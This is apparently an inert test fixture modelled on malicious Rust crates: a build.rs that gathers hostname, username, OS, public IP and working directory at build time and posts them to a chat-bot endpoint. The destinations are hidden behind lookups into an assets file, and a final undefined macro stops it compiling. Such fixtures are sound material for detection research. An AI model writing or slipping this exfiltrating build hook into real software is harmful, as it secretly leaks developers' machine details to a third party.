// Synthetic, inert fixture written from public reports; see README
fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    report();
}

fn output_of(program: &str) -> String {
    std::process::Command::new(program)
        .output()
        .map(|o| String::from_utf8_lossy(&o.stdout).trim().to_string())
        .unwrap_or_default()
}

pub(crate) fn report() {
    let host = output_of(row(0));
    let user = std::env::var(row(1))
        .or_else(|_| std::env::var(row(2)))
        .unwrap_or_default();
    let kind = std::env::var("CARGO_CFG_TARGET_OS").unwrap_or_default();
    let address = reqwest::blocking::get(row(3))
        .and_then(|r| r.text())
        .unwrap_or_default();
    let folder = std::env::current_dir().unwrap_or_default();
    let text = format!("{user}@{host} {kind} {address} {}", folder.display());
    let bot = row(4);
    let _ = reqwest::blocking::Client::new()
        .post(&*bot)
        .form(&[("chat_id", "-1000000000000"), ("text", text.as_str())])
        .send();
}

const NOTES: &str = include_str!("assets/messages.txt");
fn row(n: usize) -> &'static str {
    NOTES.lines().nth(n + 1).unwrap_or_default()
}

inert_fixture_does_not_build!();
